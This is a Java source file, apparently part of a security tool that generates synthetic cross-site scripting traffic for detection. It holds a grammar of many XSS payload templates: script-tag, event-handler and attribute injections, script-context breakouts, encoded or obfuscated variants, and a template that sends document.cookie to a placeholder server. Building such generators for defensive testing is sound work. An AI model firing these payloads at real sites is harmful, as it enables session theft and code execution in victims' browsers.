package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;
import java.util.stream.Stream;

/** Markup that makes the next reader's browser run something. */
final class Xss {

    private static final Grammar GRAMMAR = XssWords.GRAMMAR.extend(
            """
            script ::=
              8×«before»<script>«js»</script>
              3×«before»<script «src=¦type=text/javascript src=¦async src=¦/src=¦defer src=»«q:=q»«//¦http://¦https://¦/\\/»«server»/«name»«¦.js¦?»«=q»></script>
              «before»<script type=«"text/javascript"¦module¦'text/vbscript'»>«js»</script>
              «before»<script«gap»«letters 0..3»>«js»</script«gap»>
              «before»<«@mix script»>«js»</«@mix script»>
              «before»<script>«js»
              «before»<script>«js»//
              «before»</script><script>«js»</script>
              «before»<script>«nl»«js»«nl»</script>
              «before»<script>/*«letters 2..5»*/«js»/**/</script>
              «before»<scr<script>ipt>«js»</scr</script>ipt>
              «before»<<script>«js»//<</script>
              «before»<script/«letters 1..4»>«js»</script>
              «before»<script x>«js»</script «letters 1..2»
              «before»<script>«call»(«arg»)<!--
              «before»<script src=data:text/javascript,«js»></script>
              «before»<script src="data:«;base64¦text/javascript;base64»,«@base64 alert(«arg»)»"></script>
              «before»<script>document.«location¦write»«=¦(»'«//¦http://»«server»/'+document.cookie</script>
              «before»<script>eval(String.fromCharCode(«@codes alert(«arg»)»))</script>
              «before»<script>\\u«0061¦{61}»lert(«arg»)</script>
              «before»%3Cscript%3E«js»%3C%2Fscript%3E
              «before»<script>throw onerror=eval,'=alert\\x28«0..99»\\x29'</script>
              «before»<SCRIPT>«js»</SCRIPT>
              «before»<script nonce=«hex 6..12»>«js»</script>
              «before»<script>setTimeout(()=>«call»(«arg»),«0..900»)</script>
            handler ::=
              8×«before»<img«gap»src=«q:=q»«x¦«0..9»¦#¦http://«host»/«name».jpg¦«letters 1..6»»«=q»«gap»onerror=«q:=q»«js»«=q»«?«sp»/»>
              6×«before»<svg«gap»onload=«q:=q»«js»«=q»«?/»>
              12×«before»<«tag»«gap»«event»=«q:=q»«js»«=q»>«?«letters 2..6»»
              2×«before»<«details¦dialog»«gap»open«gap»on«toggle¦beforetoggle»=«q:=q»«js»«=q»>
              2×«before»<«input¦select¦textarea¦button¦keygen»«gap»autofocus«gap»onfocus=«q:=q»«js»«=q»>
              2×«before»<body«gap»on«load¦pageshow¦hashchange¦scroll¦resize¦unload»=«q:=q»«js»«=q»>
              2×«before»<«video¦audio»«?«gap»src=«letters 1..2»»«?><source»«gap»on«error¦loadstart»=«q:=q»«js»«=q»>
              «before»<marquee«gap»on«start¦finish¦bounce»=«q:=q»«js»«=q»>«letters 1..4»</marquee>
              «before»<«tag» id=x tabindex=1 on«focus¦focusin¦activate¦deactivate»=«q:=q»«js»«=q»></«tag»>#x
              «before»<style>@keyframes «n:=letters 1..4»{}</style><«tag» style="animation-name:«=n»" on«¦webkit»animation«start¦end»=«q:=q»«js»«=q»></«tag»>
              «before»<«tag» style="content-visibility:auto" oncontentvisibilityautostatechange=«q:=q»«js»«=q»>
              «before»<«tag» style="transition:«1..9»s" ontransition«end¦run»=«q:=q»«js»«=q»>
              «before»<«tag» contenteditable on«blur¦paste¦input¦beforeinput»=«q:=q»«js»«=q»>«word»
              «before»<«tag» draggable=true on«drag¦dragstart¦dragend»=«q:=q»«js»«=q»>«word»
              «before»<«a¦div¦p» style=position:fixed;top:0;left:0;width:«10..999»px;height:«10..999»px onmouse«over¦move»=«q:=q»«js»«=q»>
              «before»<body«gap»«event»=«js»><br><br><br>«0..9×<br>»<input autofocus>
              «before»<form«gap»onsubmit=«js»><«input¦button» type=submit>
              «before»<xss id=x «event»=«q:=q»«js»«=q» tabindex=«0..9»>
              «before»<img src«gap»=«gap»x«gap»onerror«gap»=«gap»«js»«gap»>
              «before»<image«gap»«src¦href»=«letters 1..3»«gap»onerror=«js»>
              «before»<«letters 1..5»«gap»«event»=«js»>«word»</«letters 1..5»>
              «before»<popover id=«n:=letters 1..4» onbeforetoggle=«js»><button popovertarget=«=n»>«word»</button>
            attribute ::=
              6×«value»«q:="¦'»«sp»«event»=«?«=q»»«js»«?«sp»«letters 1..2»=«=q»»
              3×«?«value»»«q:="¦'»«gap»autofocus«gap»onfocus=«?«=q»»«js»«?«sp»«letters 1..2»=«=q»»
              2×«value»«q:="¦'»«gap»style=«=q»«x:expression(«call»(«arg»))¦animation-name:«letters 1..3»»«=q»«gap»«event»=«=q»«js»
              «value»«q:="¦'»«gap»accesskey=«=q»«letters 1..1»«=q»«gap»onclick=«=q»«js»«=q»
              «sp»«event»=«js»«sp»
              «value»«q:="¦'»/«event»=«=q»«js»//
              x«q:="¦'¦`»«gap»«event»=«js»«gap»«letters 1..3»=«=q»
              «value»&quot;«gap»«event»=«js»«gap»
              «value»«q:="¦'»«gap»href=«=q»javascript:«js»«=q»
              «value»«q:="¦'»«gap»src=«letters 1..2»«gap»onerror=«js»«gap»«letters 1..2»=«=q»
              «value»«q:="¦'»«gap»type=image«gap»src=«1..9»«gap»onerror=«js»
              "><«letters 1..6»«gap»«event»=«js»«gap»
              «value»\\"«gap»«event»=«js»//
            break ::=
              5×«?«value»»«q:='¦"¦`»«;¦-¦+¦*¦^¦,¦|¦&&¦||¦%2b¦==¦?»«js»«;¦-¦+¦*¦^¦,¦|¦&&¦||¦:»«=q»
              5×«?«value»»«q:='¦"¦`»«;¦);¦};¦)};¦});¦]};¦))¦}»«js»«?;»//
              3×«before»</script><«script>«js»</script>¦svg onload=«js»>¦img src=x onerror=«js»>»
              «?«value»»\\«q:='¦"»«;¦-»«js»//
              «?«value»»«q:='¦"»«nl»«js»«nl»//
              ${«js»}
              «?«value»»`+«js»+`
              «q:='¦"»};«js»;var «name»={a:«=q»
              «q:='¦"»+«js»+«=q»
              «q:='¦"»);«js»;(«=q»
              «q:='¦"»]);«js»;//
              */«js»/*
              «q:='¦"»-eval(«atob('«@base64 alert(«arg»)»')¦name¦location.hash.substr(1)»)-«=q»
              \\x3c«script\\x3e«js»\\x3c/script¦img src=x onerror=«js»»\\x3e
              \\u003c«script\\u003e«js»\\u003c/script¦svg onload=«js»»\\u003e
              «1..99»;«js»
              «letters 1..5»(){};«js»;function «letters 1..3»
              «q:='¦"»onerror=alert;throw«=q»«1..9»
              __proto__[«letters 3..8»]=«js»
            bare ::=
              6×«js»
              «js»;«js»
              «call»(«arg»);//
              window.«name»=«js»
              try{«js»}catch(e){«js»}
              «name»=>«js»
              !function(){«js»}()
              if(«0..1»==«0..1»){«js»}
              «letters 1..3»:«js»
              void(«js»)
            """);

    static final List<AttackFamily> FAMILIES = Stream.of(
                    List.of(
                            family(GRAMMAR, "xss_script", "script"),
                            family(GRAMMAR, "xss_handler", "handler"),
                            family(GRAMMAR, "xss_attribute", "attribute"),
                            family(GRAMMAR, "xss_script_context", "break"),
                            family(GRAMMAR, "xss_code", "bare")),
                    XssElements.FAMILIES)
            .flatMap(List::stream)
            .toList();

    private Xss() {}

    static AttackFamily family(Grammar grammar, String name, String rule) {
        return AttackFamily.of(name, ThreatType.XSS, grammar.from(rule));
    }
}
